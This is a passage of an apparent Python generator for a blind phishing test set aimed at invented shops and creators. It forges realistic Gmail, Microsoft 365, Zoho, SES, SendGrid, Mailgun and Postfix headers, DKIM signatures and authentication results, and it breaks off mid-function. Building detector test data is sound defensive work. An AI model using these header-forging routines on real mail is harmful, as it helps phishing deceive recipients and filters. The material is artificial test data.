#!/usr/bin/env python3
"""Blind test set 53: phishing aimed at small online businesses and creators (2024-2026).

Recipients are invented small businesses and creators (Shopify, Etsy, Amazon and
eBay sellers, a WooCommerce shop, restaurants and a salon with Facebook pages,
YouTubers, Instagram/TikTok creators, Upwork and Fiverr freelancers) whose
business mailboxes sit on Google Workspace, Microsoft 365, Zoho Mail or Titan.
Every message is written by hand; nothing is copied from a corpus.

Run:  .venv/bin/python samples/tools/build_blind53_samples.py
Writes samples/mail/<folder>/b53-*.eml and samples/tools/blind53_manifest.txt.
"""

from __future__ import annotations

import base64
import hashlib
import html as htmlmod
import re
import struct
import sys
import zlib
from dataclasses import dataclass, field
from datetime import datetime, timedelta, timezone
from email import policy
from email.header import Header
from email.parser import BytesParser
from email.utils import format_datetime
from pathlib import Path

HERE = Path(__file__).resolve().parent
sys.path.insert(0, str(HERE))

import files  # noqa: E402
from mime import Leaf, Multi, attachment, message, text  # noqa: E402

ROOT = HERE.parent.parent
MAIL = ROOT / "samples" / "mail"
MANIFEST = HERE / "blind53_manifest.txt"
PREFIX = "b53"

# Engineers may move a legitimate stem between "clean" and "bulk" here.
# Maintainer's corrections after the first scan (the names keep the writer's kind):
REFILED: dict[str, str] = {
    # A link to a download, no program in the message: the engine names the lure phishing, not malware.
    "b53-phish-yt-sponsor-game-beta-dropbox": "phishing",
    "b53-phish-yt-sponsor-ai-editor-mega": "phishing",
    "b53-phish-copyright-lawyer-firebase": "phishing",
    "b53-phish-avvocato-copyright-bitbucket-it": "phishing",
    "b53-phish-dmca-contact-form-wordpress": "phishing",
    "b53-phish-woocommerce-fake-security-patch": "phishing",
    # Notices from no-reply senders and bulk-mail services: the engine's classification calls them bulk.
    "b53-legit-meta-ad-rejected": "bulk",
    "b53-legit-instagram-ip-removal": "bulk",
    "b53-legit-tiktok-shop-product-deactivated": "bulk",
    "b53-legit-youtube-copyright-claim": "bulk",
    "b53-legit-google-ads-payment-declined": "bulk",
    "b53-legit-shopify-payouts-paused": "bulk",
    "b53-legit-stripe-verifica-it": "bulk",
    "b53-legit-square-transfer-review": "bulk",
    "b53-legit-etsy-payment-reserve": "bulk",
    "b53-legit-amazon-listing-deactivated": "bulk",
    "b53-legit-godaddy-renouvellement-fr": "bulk",
    "b53-legit-upwork-new-message": "bulk",
}

# --------------------------------------------------------------------------------------------
# Deterministic pseudo-random material (hashes of fixed seeds)
# --------------------------------------------------------------------------------------------


def _stream(seed: str, n: int) -> bytes:
    out = b""
    i = 0
    while len(out) < n:
        out += hashlib.sha256(f"{seed}#{i}".encode()).digest()
        i += 1
    return out[:n]


def hexs(seed: str, n: int, upper: bool = False) -> str:
    value = _stream(seed, (n + 1) // 2).hex()[:n]
    return value.upper() if upper else value


def b64s(seed: str, n: int) -> str:
    return base64.b64encode(_stream(seed, n)).decode()[:n]


def alnum(seed: str, n: int) -> str:
    raw = base64.b64encode(_stream(seed, n * 2)).decode()
    return re.sub(r"[^A-Za-z0-9]", "", raw)[:n]


def urlsafe(seed: str, n: int) -> str:
    return base64.urlsafe_b64encode(_stream(seed, n)).decode().rstrip("=")[:n]


def digits(seed: str, n: int) -> str:
    return "".join(str(b % 10) for b in _stream(seed, n))


def pick(seed: str, options):
    return options[_stream(seed, 1)[0] % len(options)]


def rint(seed: str, lo: int, hi: int) -> int:
    return lo + int.from_bytes(_stream(seed, 4), "big") % (hi - lo + 1)


def uuid(seed: str, upper: bool = False) -> str:
    h = hexs(seed, 32, upper)
    return f"{h[:8]}-{h[8:12]}-{h[12:16]}-{h[16:20]}-{h[20:]}"


# --------------------------------------------------------------------------------------------
# Dates
# --------------------------------------------------------------------------------------------


def T(value: str) -> datetime:
    """'2025-03-12 14:05:31 +0100' -> aware datetime."""
    return datetime.strptime(value, "%Y-%m-%d %H:%M:%S %z")


def fmt(dt: datetime, hours: float | None = None, comment: str = "") -> str:
    if hours is not None:
        dt = dt.astimezone(timezone(timedelta(hours=hours)))
    out = format_datetime(dt)
    return f"{out} ({comment})" if comment else out


def _us_dst(dt: datetime) -> bool:
    d = dt.astimezone(timezone.utc)
    if 4 <= d.month <= 10:
        return True
    if d.month == 3:
        return d.day >= 10
    if d.month == 11:
        return d.day < 3
    return False


def pacific(dt: datetime) -> str:
    return fmt(dt, -7, "PDT") if _us_dst(dt) else fmt(dt, -8, "PST")


def utc(dt: datetime, comment: bool = False) -> str:
    return fmt(dt, 0, "UTC" if comment else "")


def ms_time(dt: datetime, seed: str) -> str:
    d = dt.astimezone(timezone.utc)
    return d.strftime("%d %b %Y %H:%M:%S") + f".{digits(seed, 4)} (UTC)"


def epoch(dt: datetime) -> int:
    return int(dt.timestamp())


def plus(dt: datetime, seconds: float) -> datetime:
    return dt + timedelta(seconds=seconds)


# --------------------------------------------------------------------------------------------
# Header helpers
# --------------------------------------------------------------------------------------------


def enc(value: str, how: str = "B") -> str:
    """An RFC 2047 encoded-word when the value is not ASCII (as mail clients write subjects)."""
    try:
        value.encode("ascii")
        return value
    except UnicodeEncodeError:
        pass
    if how == "Q":
        return Header(value, "utf-8").encode(maxlinelen=998)
    raw = value.encode("utf-8")
    words = []
    chunk = b""
    for ch in value:
        b = ch.encode("utf-8")
        if len(chunk) + len(b) > 45:
            words.append(chunk)
            chunk = b""
        chunk += b
    if chunk:
        words.append(chunk)
    del raw
    return "\n ".join(f"=?UTF-8?B?{base64.b64encode(w).decode()}?=" for w in words)


def addr(name: str, email: str) -> str:
    if not name:
        return email
    try:
        name.encode("ascii")
        if re.search(r'[(),.:;<>@\[\]"]', name):
            return f'"{name}" <{email}>'
        return f"{name} <{email}>"
    except UnicodeEncodeError:
        return f"{enc(name)} <{email}>"


def fold_b64(prefix: str, value: str, width: int = 70, indent: str = "\t ") -> str:
    lines = [value[i:i + width] for i in range(0, len(value), width)]
    return prefix + ("\n" + indent).join(lines)


def dkim_header(d: str, s: str, seed: str, when: datetime, h: str, name: str = "DKIM-Signature",
                extra: str = "", bits: int = 2048, style: str = "tab") -> str:
    h = h.rstrip(";")
    b = b64s(seed + "/b", 342 if bits == 2048 else 170) + "=="
    bh = b64s(seed + "/bh", 43) + "="
    ind = "\t" if style == "tab" else "        "
    head = f"{name}: v=1; a=rsa-sha256; c=relaxed/relaxed; d={d};\n{ind}s={s}; t={epoch(when)};{extra}\n{ind}h={h};\n{ind}bh={bh};\n"
    return head + fold_b64(f"{ind}b=", b, 70, ind + " ")


# --------------------------------------------------------------------------------------------
# Mailboxes (recipients)
# --------------------------------------------------------------------------------------------


@dataclass
class Box:
    addr: str
    name: str
    kind: str  # google, m365, zoho, zoho_eu, titan
    region: str = "NAM"  # m365 only: NAM or EUR
    country: str = "US"

    @property
    def domain(self) -> str:
        return self.addr.split("@", 1)[1]

    @property
    def to(self) -> str:
        return addr(self.name, self.addr)


MM = Box("hannah@mapleandmoss.co", "Hannah Reyes", "google")                      # Shopify candle shop
NOPAL = Box("luis@elnopalatx.com", "Luis Garza", "titan")                           # taqueria, Austin
LUMEN = Box("bookings@studiolumensalon.com", "Studio Lumen Salon", "m365", "NAM")    # hair salon
PRIYA = Box("priya@priyamakes.com", "Priya Raman", "google")                        # DIY YouTuber
PRIYA_C = Box("collabs@priyamakes.com", "Priya Makes Collabs", "google")
SAM = Box("sam@geardropreviews.com", "Sam Okafor", "zoho")                          # tech YouTuber
JAY = Box("team@jaydencolefit.com", "Jayden Cole", "google")                        # IG / TikTok fitness creator
WILD = Box("nora@wildfernceramics.com", "Nora Lindqvist", "zoho")                   # Etsy ceramics
FOX = Box("hello@littlefoxprints.com", "Megan Foster", "m365", "NAM")                # Etsy + WordPress prints (GoDaddy M365)
BRIGHT = Box("ops@brightpeakgear.com", "Kevin Marsh", "m365", "NAM")                 # Amazon + Shopify outdoor gear
RETRO = Box("tom@retrorelay.co.uk", "Tom Ashworth", "google", country="GB")        # eBay UK electronics
BELL = Box("marco@bellinistudio.it", "Marco Bellini", "zoho_eu", country="IT")      # Upwork designer
CAM = Box("camille@ateliercamille.fr", "Camille Roussel", "m365", "EUR", "FR")      # WooCommerce shop (GoDaddy M365)
HANSEN = Box("info@roesterei-hansen.de", "Jonas Hansen", "google", country="DE")    # Shopify + Amazon.de roaster
DULCE = Box("hola@dulcevidamadrid.es", "Lucía Moreno", "zoho_eu", country="ES")     # pastry shop, Facebook page
RINA = Box("info@trattoriadarina.it", "Trattoria da Rina", "titan", country="IT")   # restaurant, Bologna
OLIVO = Box("ventas@casaolivo.es", "Casa Olivo Ventas", "m365", "EUR", "ES")        # Amazon.es olive oil
ANA = Box("ana@anaortegatraduce.com", "Ana Ortega", "google", country="ES")         # Fiverr translator


# --------------------------------------------------------------------------------------------
# Sending side
# --------------------------------------------------------------------------------------------


@dataclass
class Sender:
    mailfrom: str                 # envelope sender, becomes Return-Path
    relay_host: str               # reverse DNS of the host that connected to the receiver
    relay_ip: str
    helo: str
    trace: list[str]              # sender-side headers above the message headers (Received, DKIM, X-...)
    dkim: list[tuple[str, str]]   # (d=, s=) of the signatures, for the receiver's verdict
    msgid: str
    after: list[str] = field(default_factory=list)  # headers the client writes after To/Subject


def _gmail_x(seed: str, when: datetime, rcpt_domain: str, d: str = "gmail.com", s: str = "20230601",
             h: str = "to:subject:message-id:date:from:mime-version:from:to:cc:subject\n\t :date:message-id:reply-to",
             google_internal: bool = True) -> list[str]:
    t = when
    sig = dkim_header(d, s, seed + d, t, h, extra=f" x={epoch(t) + 604800}; darn={rcpt_domain};", style="sp")
    out = [sig]
    if google_internal:
        out.append(dkim_header("1e100.net", s, seed + "1e100", t, h.replace("to:subject", "x-gm-message-state:to:subject"),
                               name="X-Google-DKIM-Signature", extra=f" x={epoch(t) + 604800};", style="sp"))
    out.append(f"X-Gm-Message-State: AOJu0Y{alnum(seed + 'gms', 56)}\n\t{alnum(seed + 'gms2', 40)}")
    if t >= T("2024-12-01 00:00:00 +0000"):
        out.append(f"X-Gm-Gg: ASbGnc{alnum(seed + 'gg', 60)}\n\t{alnum(seed + 'gg2', 64)}")
    out.append(f"X-Google-Smtp-Source: AGHT+I{alnum(seed + 'src', 62)}==")
    mr = f"{alnum(seed + 'mr', 1).lower()}{digits(seed + 'mr2', 2)}-20020a17090{hexs(seed + 'mr2b', 11)}b0{hexs(seed + 'mr3', 11)}mr{digits(seed + 'mr4', 7)}{alnum(seed + 'mr5', 3).lower()}"
    out.append(f"X-Received: by 2002:a17:90{hexs(seed + 'xr1', 1)}:{hexs(seed + 'xr2', 4)}:b0:{hexs(seed + 'xr3', 3)}:"
               f"{hexs(seed + 'xr3b', 4)}:{hexs(seed + 'xr4', 4)} with SMTP id {mr}.{rint(seed, 2, 30)}.{epoch(t)}{digits(seed + 'ms', 3)};\n"
               f"        {pacific(t)}")
    return out


def gmail(email: str, sent: datetime, seed: str, rcpt: Box, domain_sig: str | None = None) -> Sender:
    """A message typed in Gmail (or in Google Workspace when domain_sig is the sender's domain)."""
    to_google = rcpt.kind == "google"
    n = rint(seed + "ip", 41, 74)
    if to_google:
        host, ip = f"mail-sor-f{n}.google.com", f"209.85.220.{n}"
    else:
        pref = pick(seed + "pref", ["ej1", "ed1", "wm1", "lf1", "qk1", "yb1", "pl1", "wr1"])
        third = {"ej1": 218, "ed1": 208, "wm1": 128, "lf1": 167, "qk1": 222, "yb1": 219, "pl1": 214, "wr1": 221}[pref]
        host, ip = f"mail-{pref}-f{n}.google.com", f"209.85.{third}.{n}"
    d = domain_sig or "gmail.com"
    s = "google" if domain_sig else "20230601"
    trace = _gmail_x(seed, sent, rcpt.domain, d=d, s=s)
    msgid = f"<CA{alnum(seed + 'mid', 2)}{alnum(seed + 'mid1', 10)}+{alnum(seed + 'mid2', 20)}{alnum(seed + 'mid3', 12)}@mail.gmail.com>"
    return Sender(email, host, ip, host, trace, [(d, s)], msgid)


def _ms_host(seed: str, region: str = "NAM", kind: str = "MB") -> str:
    if region == "EUR":
        pre = pick(seed + "p", ["AS8P", "DB9P", "PAXP", "AM9P", "DU0P", "VI1P", "GV1P"])
        num = rint(seed + "n", 189, 195)
        return f"{pre}{num}MB{rint(seed + 'm', 1000, 9999)}.EURP{num}.PROD.OUTLOOK.COM"
    pre = pick(seed + "p", ["SA1P", "BN0P", "CH3P", "PH0P", "SJ0P", "DM6P", "MN2P", "BL1P"])
    num = rint(seed + "n", 10, 22)
    return f"{pre}R{num}MB{rint(seed + 'm', 1000, 9999)}.namprd{num}.prod.outlook.com"


def _exch_version(when: datetime) -> str:
    y = when.year
    base = {2024: 7200, 2025: 8300, 2026: 9400}.get(y, 8300)
    return f"15.20.{base + when.month * 40 + when.day}.{rint(str(when), 10, 40)}"


def outlook(email: str, sent: datetime, seed: str, consumer: bool = True, region: str = "EUR",
            dkim_d: str | None = None, tenant: str = "", client: str = "owa") -> Sender:
    """Mail from outlook.com/hotmail (consumer) or from a Microsoft 365 tenant."""
    dom = email.split("@", 1)[1]
    mbx = _ms_host(seed + "mbx", region)
    mbx_short = mbx.split(".")[0]
    v = _exch_version(sent)
    if consumer:
        code = {"EUR": pick(seed + "r", ["eur05", "eur03", "eur02", "eur04"]), "NAM": pick(seed + "r", ["nam12", "nam11", "nam10"])}[region]
        n = rint(seed + "o", 2000, 2199)
        relay = f"mail-{pick(seed + 'x', ['am7', 'db8', 'vi1', 'he1'])}{code}olkn{n}.outbound.protection.outlook.com"
        ip = f"40.92.{rint(seed + 'a', 58, 107)}.{rint(seed + 'b', 10, 250)}"
    else:
        code = {"EUR": pick(seed + "r", ["eur05", "eur03", "eur02", "eur01"]), "NAM": pick(seed + "r", ["nam12", "nam11", "nam10", "nam04", "nam02"])}[region]
        n = rint(seed + "o", 2000, 2299)
        relay = f"mail-{pick(seed + 'x', ['bn8', 'dm6', 'co1', 'mw2', 'sn1', 'am0', 'db5'])}{code}on{n}.outbound.protection.outlook.com"
        ip = f"{pick(seed + 'ipa', ['40.107', '52.101', '52.100'])}.{rint(seed + 'a', 1, 254)}.{rint(seed + 'b', 10, 250)}"
    trace = [
        f"Received: from {mbx} ([fe80::{hexs(seed + 'v6a', 4)}:{hexs(seed + 'v6b', 4)}:{hexs(seed + 'v6c', 4)}:{hexs(seed + 'v6d', 4)}]) by {mbx}\n"
        f" ([fe80::{hexs(seed + 'v6a', 4)}:{hexs(seed + 'v6b', 4)}:{hexs(seed + 'v6c', 4)}:{hexs(seed + 'v6d', 4)}%{rint(seed, 3, 7)}]) with mapi id {v}; {utc(plus(sent, 0))}",
    ]
    if consumer:
        d, s = (dkim_d or dom), "selector1"
    elif dkim_d:
        d, s = dkim_d, "selector1"
    else:
        d, s = f"{tenant}.onmicrosoft.com", f"selector1-{tenant}-onmicrosoft-com"
    h = "From:Date:Subject:Message-ID:Content-Type:MIME-Version:X-MS-Exchange-SenderADCheck"
    trace.insert(0, dkim_header(d, s, seed + "dk", sent, h))
    trace.insert(0, "ARC-Authentication-Results: i=1; mx.microsoft.com 1; spf=none; dmarc=none;\n dkim=none; arc=none")
    trace.insert(0, dkim_header("microsoft.com", "arcselector10001", seed + "arcms", sent,
                                "From:Date:Subject:Message-ID:Content-Type:MIME-Version:X-MS-Exchange-AntiSpam-MessageData-ChunkCount:X-MS-Exchange-AntiSpam-MessageData-0:X-MS-Exchange-AntiSpam-MessageData-1",
                                name="ARC-Message-Signature").replace(" v=1;", " i=1;"))
    trace.insert(0, f"ARC-Seal: i=1; a=rsa-sha256; s=arcselector10001; d=microsoft.com; cv=none;\n"
                 + fold_b64(" b=", b64s(seed + "arcseal", 342) + "==", 70, " "))
    msgid = f"<{mbx_short}{hexs(seed + 'mid', 32, True)}@{mbx_short}.{mbx.split('.', 1)[1]}>"
    after = [
        f"Thread-Topic: {{subject}}",
        f"Thread-Index: AQH{alnum(seed + 'ti', 25)}==",
        "X-MS-Has-Attach: {has_attach}",
        "X-MS-TNEF-Correlator:",
    ]
    if client == "outlook":
        after.append("x-ms-publictraffictype: Email")
        after.append(f"x-ms-exchange-messagesentrepresentingtype: 1")
    after.append("Accept-Language: {lang}")
    after.append("Content-Language: {lang}")
    return Sender(email, relay, ip, relay, trace, [(d, s)], msgid, after)


def zoho_send(email: str, sent: datetime, seed: str, name_dom: str | None = None) -> Sender:
    """Mail from a Zoho Mail account (custom domain, selector zmail)."""
    dom = name_dom or email.split("@", 1)[1]
    n = rint(seed + "z", 10, 40)
    relay = f"sender4-op-o{n}.zoho.com"
    ip = f"136.143.188.{n}"
    trace = [
        f"ARC-Seal: i=1; a=rsa-sha256; t={epoch(sent)}; cv=none; \n\td=zohomail.com; s=zohoarc; \n"
        + fold_b64("\tb=", b64s(seed + "zarc", 342) + "==", 70, "\t"),
        dkim_header(dom, "zmail", seed + "zd", sent,
                    "Date:Date:From:From:To:To:Message-Id:Message-Id:Subject:Subject:MIME-Version:Content-Type:Reply-To",
                    extra=f" \n\ti={email};"),
        f"Received: from mail.zoho.com by mx.zohomail.com\n\twith SMTP id {epoch(sent)}{digits(seed + 'zid', 9)}.{digits(seed + 'zid2', 3)}"
        f"{hexs(seed + 'zz', 5)}; {pacific(sent).replace(' (PDT)', '').replace(' (PST)', '')} ({'PDT' if _us_dst(sent) else 'PST'})",
        "User-Agent: Zoho Mail",
        "X-Mailer: Zoho Mail",
    ]
    msgid = f"<{hexs(seed + 'zm', 15)}.{epoch(sent)}{digits(seed, 3)}.{digits(seed + 'q', 19)}@zoho.com>"
    return Sender(email, relay, ip, relay, trace, [(dom, "zmail")], msgid)


def ses(from_dom: str, sent: datetime, seed: str, region: str = "us-east-1", mailfrom: str | None = None,
        selector: str | None = None, h: str = "Subject:From:To:Date:MIME-Version:Content-Type:Message-ID:Feedback-ID") -> Sender:
    """Amazon SES (shared IPs, two signatures: the customer domain and amazonses.com)."""
    ses_sel = {"us-east-1": "224i4yxa5dv7c2xz3womw6peuasteono", "us-west-2": "7v7vs6w47njt4pimodk5mmttbegzsi6n",
               "eu-west-1": "ihchhvubuqgjsxyuhssfvqohv7z3u4hn", "eu-central-1": "54ni4zzpjvzhoasxr7mk6qtozlaiwfcf"}[region]
    a, b = rint(seed + "sa", 8, 251), rint(seed + "sb", 1, 254)
    prefix = {"us-east-1": "a", "us-west-2": "a27-", "eu-west-1": "b", "eu-central-1": "c"}[region]
    ipbase = {"us-east-1": "54.240", "us-west-2": "54.240.27", "eu-west-1": "54.240", "eu-central-1": "69.169.224"}[region]
    if region in ("us-east-1", "eu-west-1"):
        host, ip = f"{prefix}{a}-{b}.smtp-out.{'eu-west-1.' if region == 'eu-west-1' else ''}amazonses.com", f"{ipbase}.{a}.{b}"
    else:
        host, ip = f"{prefix}{b}.smtp-out.{region}.amazonses.com", f"{ipbase}.{b}"
    rdig = {"us-east-1": "0", "us-west-2": "1", "eu-west-1": "2", "eu-central-1": "7"}[region]
    idpart = f"010{rdig}01{hexs(seed + 'sesid', 10)}-{uuid(seed + 'sesu')}-000000"
    mf = mailfrom or f"{idpart}@amazonses.com"
    sel = selector or alnum(seed + "sel", 32).lower()
    trace = [
        dkim_header(from_dom, sel, seed + "sesd1", sent, h, style="tab"),
        dkim_header("amazonses.com", ses_sel, seed + "sesd2", sent, h, style="tab"),
    ]
    msgid = f"<{idpart}@{'email' if region == 'us-east-1' else region}.amazonses.com>"
    after = [f"Feedback-ID: ::1.{region}.{b64s(seed + 'fb', 43).replace('/', 'x').replace('+', 'y')}=:AmazonSES",
             f"X-SES-Outgoing: {sent.astimezone(timezone.utc).strftime('%Y.%m.%d')}-{ip}"]
    return Sender(mf, host, ip, host, trace, [(from_dom, sel), ("amazonses.com", ses_sel)], msgid, after)


def sendgrid(from_dom: str, sent: datetime, seed: str, em: str | None = None, uid: str | None = None,
             link_dom: str | None = None) -> Sender:
    """Twilio SendGrid (branded domain: emNNNN.<domain>, o1.ptrNNNN.<domain>)."""
    em = em or f"em{rint(seed + 'em', 1000, 9999)}.{from_dom}"
    uid = uid or str(rint(seed + "uid", 10000000, 49999999))
    ptr = rint(seed + "ptr", 1000, 9999)
    ip = f"{pick(seed + 'ipa', ['149.72', '167.89', '168.245', '159.183'])}.{rint(seed + 'a', 1, 254)}.{rint(seed + 'b', 1, 254)}"
    host = f"o{rint(seed + 'o', 1, 9)}.ptr{ptr}.{em.split('.', 1)[1]}"
    pod = rint(seed + "pod", 1, 30)
    recv = [
        f"Received: by filterdrecv-{hexs(seed + 'fd', 10)}-{alnum(seed + 'fd2', 5).lower()} with SMTP id "
        f"filterdrecv-{hexs(seed + 'fd', 10)}-{alnum(seed + 'fd2', 5).lower()}-1-{hexs(seed + 'fd3', 8, True)}-{rint(seed + 'q', 2, 60)}\n"
        f"        {sent.astimezone(timezone.utc).strftime('%Y-%m-%d %H:%M:%S')}.{digits(seed + 'ns', 9)} +0000 UTC m=+{digits(seed + 'm', 7)}.{digits(seed + 'm2', 9)}",
        f"Received: from {uid} (unknown)\n\tby geopod-ismtpd-{pod} (SG) with HTTP\n\tid {alnum(seed + 'gid', 22)}\n\t"
        f"{format_datetime(sent.astimezone(timezone.utc)).replace('+0000', '+0000 (UTC)')}",
    ]
    h = "content-type:from:mime-version:subject:reply-to:list-unsubscribe:\n\tlist-unsubscribe-post:x-feedback-id:to:cc:content-type:from:subject:to"
    trace = [dkim_header(from_dom, "s1", seed + "sg1", sent, h, extra=""),
             dkim_header("sendgrid.info", "smtpapi", seed + "sg2", sent, "from:subject:to:cc:content-type:from:subject:to")]
    trace = trace + recv
    msgid = f"<{alnum(seed + 'sgm', 22)}@geopod-ismtpd-{pod}>"
    after = [f"X-SG-EID: \n =?us-ascii?Q?{alnum(seed + 'eid', 70)}?=\n =?us-ascii?Q?{alnum(seed + 'eid2', 70)}?=",
             f"X-Entity-ID: u001.{alnum(seed + 'ent', 22)}=="]
    mf = f"bounces+{uid}-{hexs(seed + 'bx', 4)}-{{rcpt}}@{em}"
    return Sender(mf, host, ip, host, trace, [(from_dom, "s1"), ("sendgrid.info", "smtpapi")], msgid, after)


def mailgun(mg_dom: str, from_dom: str, sent: datetime, seed: str) -> Sender:
    n1, n2 = rint(seed + "a", 100, 250), rint(seed + "b", 1, 60)
    host, ip = f"m{n1}-{n2}.mailgun.net", f"159.135.{n1}.{n2}" if n1 < 240 else f"161.38.{n1 - 100}.{n2}"
    sid = b64s(seed + "sid", 60).replace("/", "_").replace("+", "-")
    trace = [
        dkim_header(mg_dom, pick(seed + "s", ["pic", "mx", "k1", "smtp"]), seed + "mgd", sent,
                    "Content-Transfer-Encoding: Content-Type: From: From: Mime-Version: Subject: Subject: To: To: X-Feedback-Id: Date: Message-Id: Reply-To: Sender",
                    style="sp").replace("; t=", "; q=dns/txt; t="),
        f"X-Mailgun-Sending-Ip: {ip}",
        f"X-Mailgun-Sid: {sid}",
        f"Received: by {hexs(seed + 'r', 24)} with HTTP id {hexs(seed + 'rid', 24)}; {format_datetime(sent.astimezone(timezone.utc)).replace(' +0000', '')} GMT",
        f"Sender: {{sender_local}}@{mg_dom}",
    ]
    sel = trace[0].split("s=")[1].split(";")[0]
    msgid = f"<{sent.astimezone(timezone.utc).strftime('%Y%m%d%H%M%S')}.{hexs(seed + 'mid', 16)}@{mg_dom}>"
    mf = f"bounce+{hexs(seed + 'bo', 6)}.{hexs(seed + 'bo2', 5)}-{{rcpt}}@{mg_dom}"
    return Sender(mf, host, ip, host, trace, [(mg_dom, sel)], msgid)


def postfix(host: str, ip: str, mailfrom: str, dkim_d: str, sent: datetime, seed: str, selector: str = "default",
            submit: str = "localhost [127.0.0.1]", mailer: str | None = None, msgid_dom: str | None = None,
            authenticated: bool = True) -> Sender:
    """An attacker's (or a small company's) own server: Postfix with OpenDKIM."""
    qid = alnum(seed + "qid", 12).upper()
    recv = [f"Received: from {submit.split(' ')[0]} ({submit})\n\tby {host} (Postfix) with {'ESMTPSA' if authenticated else 'ESMTP'} id 4{qid[:10]}\n"
            f"\tfor <{{rcpt_addr}}>; {fmt(sent, 0)}"]
    trace = [dkim_header(dkim_d, selector, seed + "pfd", sent, "From:Reply-To:To:Subject:Date:From;")
             .replace("c=relaxed/relaxed; ", "c=relaxed/simple; ").replace("DKIM-Signature: v=1;", f"DKIM-Filter: OpenDKIM Filter v2.11.0 {host} 4{qid[:10]}\nDKIM-Signature: v=1;")]
    if mailer:
        recv.append(f"X-Mailer: {mailer}")
    msgid = f"<{hexs(seed + 'pm', 32)}@{msgid_dom or dkim_d}>"
    return Sender(mailfrom, host, ip, host, trace + recv, [(dkim_d, selector)], msgid)


def custom(mailfrom: str, relay_host: str, relay_ip: str, trace: list[str], dkim: list[tuple[str, str]], msgid: str,
           after: list[str] | None = None, helo: str | None = None) -> Sender:
    return Sender(mailfrom, relay_host, relay_ip, helo or relay_host, trace, dkim, msgid, after or [])


def google_notif(bounce_local: str, bounce_dom: str, d: str, sent: datetime, seed: str, rcpt: Box) -> Sender:
    """Google's own notification mail (ads, business profile, youtube)."""
    n = rint(seed + "gn", 70, 74) if rcpt.kind == "google" else rint(seed + "gn", 197, 202)
    if rcpt.kind == "google":
        host, ip = f"mail-sor-f{n}.google.com", f"209.85.220.{n}"
    else:
        host, ip = f"mail-yb1-f{n}.google.com", f"209.85.219.{n}"
    mf = f"{rint(seed + 'bn', 1, 3)}{alnum(seed + 'bl', 14)}{bounce_local}@{bounce_dom}"
    h = "to:from:subject:message-id:feedback-id:date:mime-version:from:to:cc\n         :subject:date:message-id:reply-to"
    trace = [dkim_header(d, "20230601", seed + "gnd", sent, h, extra=f" x={epoch(sent) + 604800}; darn={rcpt.domain};", style="sp"),
             f"X-Google-Smtp-Source: AGHT+I{alnum(seed + 'gss', 62)}=",
             f"X-Received: by 2002:a05:6902:{hexs(seed + 'x1', 4)}:b0:{hexs(seed + 'x2', 3)}:{hexs(seed + 'x2b', 4)}:{hexs(seed + 'x3', 4)} with SMTP id "
             f"{alnum(seed + 'x4', 1).lower()}{digits(seed + 'x4b', 2)}-20020a056902{hexs(seed + 'x5', 8)}b0{hexs(seed + 'x6', 11)}mr{digits(seed + 'x7', 8)}ybf.{rint(seed, 3, 40)}.{epoch(sent)}{digits(seed + 'x8', 3)};\n"
             f"        {pacific(sent)}"]
    msgid = f"<{hexs(seed + 'gmid', 24)}@google.com>"
    return Sender(mf, host, ip, host, trace, [(d, "20230601")], msgid)


# --------------------------------------------------------------------------------------------
# Receiving side
# --------------------------------------------------------------------------------------------


@dataclass
class Auth:
    spf: str = "pass"        # pass fail softfail neutral none
    dkim: str = "pass"       # pass fail none (applies to every signature)
    dmarc: str = "pass"      # pass fail none
    policy: str = "none"     # the From domain's published DMARC policy: none quarantine reject
    scl: int = 1             # Microsoft spam confidence level (delivered mail: 1, junked: 5)
    bcl: int = 0             # Microsoft bulk level


PASS = Auth()


def _from_domain(from_header: str) -> str:
    m = re.search(r"<([^>]+)>", from_header)
    email = m.group(1) if m else from_header.strip()
    return email.split("@", 1)[1].lower()


def _mf_domain(mailfrom: str) -> str:
    return mailfrom.split("@", 1)[1].lower() if "@" in mailfrom else mailfrom


def _google_auth(s: Sender, a: Auth, fdom: str, seed: str) -> str:
    parts = []
    if a.dkim == "none" or not s.dkim:
        pass
    else:
        for d, sel in s.dkim:
            parts.append(f"dkim={a.dkim} header.i=@{d} header.s={sel} header.b={alnum(seed + d, 8)}")
    ip = s.relay_ip
    if a.spf == "pass":
        parts.append(f"spf=pass (google.com: domain of {s.mailfrom} designates {ip} as permitted sender) smtp.mailfrom={s.mailfrom}")
    elif a.spf == "softfail":
        parts.append(f"spf=softfail (google.com: domain of transitioning {s.mailfrom} does not designate {ip} as permitted sender) smtp.mailfrom={s.mailfrom}")
    elif a.spf == "fail":
        parts.append(f"spf=fail (google.com: domain of {s.mailfrom} does not designate {ip} as permitted sender) smtp.mailfrom={s.mailfrom}")
    elif a.spf == "neutral":
        parts.append(f"spf=neutral (google.com: {ip} is neither permitted nor denied by best guess record for domain of {s.mailfrom}) smtp.mailfrom={s.mailfrom}")
    else:
        parts.append(f"spf=none (google.com: {s.mailfrom} does not designate permitted sender hosts) smtp.mailfrom={s.mailfrom}")
    p = a.policy.upper()
    if a.dmarc == "none":
        parts.append(f"dmarc=none (p=NONE sp=NONE dis=NONE) header.from={fdom}" if a.policy != "absent" else "")
    else:
        dis = "NONE" if a.dmarc == "pass" else p
        parts.append(f"dmarc={a.dmarc} (p={p} sp={p} dis={dis}) header.from={fdom}")
    parts = [x for x in parts if x]
    return ";\n       ".join(parts)


def _ms_auth(s: Sender, a: Auth, fdom: str) -> tuple[str, str]:
    mfd = _mf_domain(s.mailfrom)
    if a.spf == "pass":
        spf = f"spf=pass (sender IP is {s.relay_ip})\n smtp.mailfrom={mfd}"
        rspf = (f"Received-SPF: Pass (protection.outlook.com: domain of {mfd} designates\n {s.relay_ip} as permitted sender)"
                f" receiver=protection.outlook.com;\n client-ip={s.relay_ip}; helo={s.helo}; pr=C")
    elif a.spf in ("fail", "softfail"):
        word = "Fail" if a.spf == "fail" else "SoftFail"
        spf = f"spf={a.spf} (sender IP is {s.relay_ip})\n smtp.mailfrom={mfd}"
        rspf = (f"Received-SPF: {word} (protection.outlook.com: domain of {mfd} does not\n designate {s.relay_ip} as permitted sender)"
                f" receiver=protection.outlook.com;\n client-ip={s.relay_ip}; helo={s.helo};")
    else:
        spf = f"spf={a.spf} (sender IP is {s.relay_ip})\n smtp.mailfrom={mfd}"
        rspf = (f"Received-SPF: None (protection.outlook.com: {mfd} does not designate\n permitted sender hosts)")
    if a.dkim == "pass" and s.dkim:
        dk = f"dkim=pass (signature was verified)\n header.d={s.dkim[0][0]}"
    elif a.dkim == "fail" and s.dkim:
        dk = f"dkim=fail (body hash did not verify)\n header.d={s.dkim[0][0]}"
    else:
        dk = "dkim=none (message not signed)\n header.d=none"
    if a.dmarc == "pass":
